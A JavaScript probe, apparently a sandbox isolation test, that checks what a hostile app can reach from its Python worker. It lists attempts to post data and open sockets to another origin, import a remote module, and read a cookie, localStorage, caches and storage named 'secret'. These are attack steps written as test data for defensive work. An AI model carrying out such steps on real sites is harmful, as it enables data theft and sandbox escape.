// What a hostile app tries where its Python runs. A function of our site and another one; gives JSON.
(async (ours, theirs) => {
  const settled = (target, good, bad) =>
    new Promise((yes, no) => {
      target[`on${good}`] = yes;
      target[`on${bad}`] = no;
    });
  const nested = `fetch("${theirs}/nested").then(() => postMessage(1), () => close())`;
  const tries = {
    "fetch ours": () => fetch(`${ours}/apps/index.html`),
    "fetch the page's own file": () => fetch(`${ours}/playground/site.json`),
    "fetch another": () => fetch(`${theirs}/fetch`),
    "fetch another, unread": () => fetch(`${theirs}/unread`, { mode: "no-cors" }),
    "post to another": () => fetch(`${theirs}/post`, { method: "POST", body: "x" }),
    "request": () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${theirs}/xhr`, false);
      request.send();
    },
    "import": () => import(`${theirs}/module.js`),
    "socket": () => settled(new WebSocket(`${theirs.replace("http", "ws")}/ws`), "open", "error"),
    "events": () => settled(new EventSource(`${theirs}/events`), "open", "error"),
    "a worker's worker": () =>
      settled(new Worker(`data:text/javascript,${nested}`, { type: "module" }), "message", "error"),
    "database": () => settled(indexedDB.open("ours"), "success", "error"),
    "caches": () => caches.open("ours").then((cache) => cache.match("/secret")),
    "storage": () => localStorage.getItem("secret"),
    "files": () => navigator.storage.getDirectory(),
    "cookies": () => cookieStore.get("secret").then((cookie) => cookie.value),
  };
  const found = {};
  for (const [name, act] of Object.entries(tries)) {
    const late = new Promise((_, no) => setTimeout(no, 3000));
    const tried = Promise.race([(async () => act())(), late]);
    found[name] = await tried.then(() => "reached", () => "stopped");
  }
  return JSON.stringify(found);
})
